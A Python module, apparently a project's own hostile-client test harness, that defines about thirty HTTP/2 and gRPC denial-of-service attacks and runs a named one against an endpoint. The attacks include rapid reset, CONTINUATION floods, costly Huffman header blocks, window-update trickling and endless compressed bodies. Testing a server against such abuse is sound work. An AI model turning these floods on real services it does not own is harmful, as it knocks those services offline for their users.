"""What clients may do to hurt others.

python -m front.hostile.attacks NAME ENDPOINT SECONDS
"""

import gzip
import json
import sys
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from itertools import chain, count, islice, repeat

from front.hostile import frames as f
from front.hostile.crowd import Crowd, Writes
from front.payloads import receive, send
from front.wire import frame as message
from front.wire import headers

from popmq_common.units import KiB, MiB

POLL = message(receive("attacked", "attackers", poll_s=15))
SEND = message(send("attacked", b"x"))
GREETING = f.PREFACE + f.settings([]) + f.window_update(0, 1 << 30)
LARGE_TOPIC = "large"
Pieces = Iterable[bytes]


@dataclass(frozen=True)
class Attack:
    connections: int
    writes: Callable[[], Pieces]
    reads: bool = True
    greets: bool = True

    def all_writes(self) -> Writes:
        return gathered(chain([GREETING] if self.greets else [], self.writes()))


def gathered(pieces: Pieces) -> Writes:
    """Small pieces together."""
    held = bytearray()
    for piece in pieces:
        held += piece
        if len(held) >= 64 * KiB:
            yield bytes(held)
            held.clear()
    yield bytes(held)


def ids() -> Iterable[int]:
    return range(1, 1 << 31, 2)


def for_ever(frame: bytes) -> Callable[[], Pieces]:
    data = frame * (16 * KiB // len(frame) + 1)
    return lambda: repeat(data)


def heads(stream_count: int, path: str = "SendMessage") -> Pieces:
    """Requests that begin and do not go on."""
    return (f.request_head(number, path) for number in islice(ids(), stream_count))


def blocks(fields: Callable[[int], bytes]) -> Callable[[], Pieces]:
    """A header block each, which is all of a request."""

    def written() -> Pieces:
        for number in ids():
            yield f.header_frames(number, fields(number))

    return written


def endless_messages() -> Pieces:
    """One unary call whose body does not end: 1 MiB, packed, again and again."""
    one = message(gzip.compress(bytes(MiB)), compressed=1)
    fields = f.block([*headers("SendMessage"), ("grpc-encoding", "gzip")])
    head = f.frame(f.HEADERS, f.END_HEADERS, 1, fields)
    return chain([head], repeat(f.frame(f.DATA, 0, 1, one), 4_000))


def windows_of_many_streams(settings: bytes) -> Callable[[], Pieces]:
    return lambda: chain(heads(16_000, "Telemetry"), repeat(settings))


def blocked_answers(then: Pieces) -> Callable[[], Pieces]:
    """Answers that the client's windows hold up, and then windows that hardly help."""

    def written() -> Pieces:
        shut = f.settings([(f.INITIAL_WINDOW_SIZE, 0)])
        asked = (f.request(number, "SendMessage", SEND) for number in islice(ids(), 8_000))
        return chain([shut], asked, then)

    return written


def huffman(size_bytes: int) -> Callable[[int], bytes]:
    """What takes long to decode, and is another one each time."""

    def fields(number: int) -> bytes:
        coded = bytes(size_bytes - 4) + number.to_bytes(4, "big")
        return LINES + b"\x00\x0ex-mq-client-id" + f.huffman_text(coded)

    return fields


def named_again(number: int) -> bytes:
    """A large field goes into the table, and is named by one byte again and again."""
    large = b"\x40\x05x-big\x7f\xc1\x1e" + b"x" * 4_000
    return LINES + (large if number == 1 else b"\xbe" * 8_000)


def begun(first: Pieces, then: bytes) -> Callable[[], Pieces]:
    return lambda: chain(first, repeat(then * 500))


def rapid_resets(*, whole: bool) -> Pieces:
    for number in ids():
        if whole:
            yield f.request(number, "ReceiveMessage", POLL) + f.reset(number)
        else:
            yield f.request_head(number, "ReceiveMessage") + f.reset(number)


def parked_polls() -> Pieces:
    return (f.request(number, "ReceiveMessage", POLL) for number in islice(ids(), 10_000))


def unread_answers() -> Pieces:
    """Polls for large messages, and not a byte of them is let through."""
    poll = message(receive(LARGE_TOPIC, "attackers", poll_s=15))
    asked = (f.request(number, "ReceiveMessage", poll) for number in islice(ids(), 20))
    return chain([f.settings([(f.INITIAL_WINDOW_SIZE, 0)])], asked)


LINES = f.block(headers("SendMessage"))[1:]
NOT_GRPC = f.block([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
ONE_WINDOW = f.settings([(f.INITIAL_WINDOW_SIZE, 1)]) + f.settings([(f.INITIAL_WINDOW_SIZE, 9)])
MANY_WINDOWS = f.settings([(f.INITIAL_WINDOW_SIZE, size) for size in range(2_700)])
BYTE_BY_BYTE = (f.window_update(number, 1) for _ in count() for number in islice(ids(), 500))
LONG = b"\0\x07\xff\xff\xff"
"""What the prefix of a long message says."""
ATTACKS = {
    "endless messages": Attack(4, endless_messages),
    "half-open calls": Attack(2, lambda: heads(20_000)),
    "half-open streams": Attack(2, lambda: heads(20_000, "Telemetry")),
    "settings of many streams": Attack(1, windows_of_many_streams(ONE_WINDOW)),
    "long settings": Attack(1, windows_of_many_streams(MANY_WINDOWS)),
    "blocked streams": Attack(1, blocked_answers(repeat(f.window_update(0, 1)))),
    "trickling windows": Attack(2, blocked_answers(BYTE_BY_BYTE)),
    "huffman blocks": Attack(8, blocks(huffman(15_000))),
    "huge blocks": Attack(8, blocks(huffman(33_000))),
    "many fields": Attack(8, blocks(lambda _: LINES + b"\x82" * 15_000)),
    "named again": Attack(4, blocks(named_again)),
    "continuation": Attack(4, begun([f.frame(f.HEADERS, 0, 1)], f.frame(f.CONTINUATION, 0, 1))),
    "windows": Attack(8, for_ever(f.window_update(0, 1))),
    "unknown frames": Attack(8, for_ever(f.frame(0x77, 0, 0))),
    "large unknown frames": Attack(4, for_ever(f.frame(0x77, 0, 0, bytes(200 * KiB)))),
    "pings": Attack(8, for_ever(f.frame(f.PING, 0, 0, bytes(8)))),
    "priorities": Attack(8, for_ever(f.frame(f.PRIORITY, 0, 3, bytes(5)))),
    "settings": Attack(8, for_ever(f.settings([]))),
    "padding": Attack(8, begun(heads(1), f.frame(f.DATA, f.PADDED, 1, b"\xff" + bytes(255)))),
    "one byte data": Attack(
        8, begun([*heads(1), f.frame(f.DATA, 0, 1, LONG)], f.frame(f.DATA, 0, 1, b"x"))
    ),
    "empty data": Attack(8, begun(heads(1), f.frame(f.DATA, 0, 1))),
    "rapid reset": Attack(4, lambda: rapid_resets(whole=False)),
    "rapid reset of requests": Attack(4, lambda: rapid_resets(whole=True)),
    "refused requests": Attack(4, blocks(lambda _: NOT_GRPC)),
    "malformed requests": Attack(4, blocks(lambda _: b"\x82")),
    "too many streams": Attack(4, lambda: heads(1 << 22, "Telemetry")),
    "no HTTP/2": Attack(8, for_ever(b"GET / HTTP/1.1\r\n\r\n"), greets=False),
    "no TLS": Attack(8, for_ever(b"\x16\x03\x01" + bytes(200)), greets=False),
    "parked polls": Attack(2, parked_polls),
    "unread answers": Attack(40, unread_answers, reads=False),
}


def main() -> None:
    name, endpoint, seconds = sys.argv[1:]
    attack = ATTACKS[name]
    crowd = Crowd(endpoint, attack.connections, attack.all_writes, reads=attack.reads)
    crowd.run(float(seconds))
    written_mib = round(crowd.written_bytes / MiB, 1)
    print(json.dumps({"written_mib": written_mib, "sent_away": crowd.sent_away_count}))


if __name__ == "__main__":
    main()
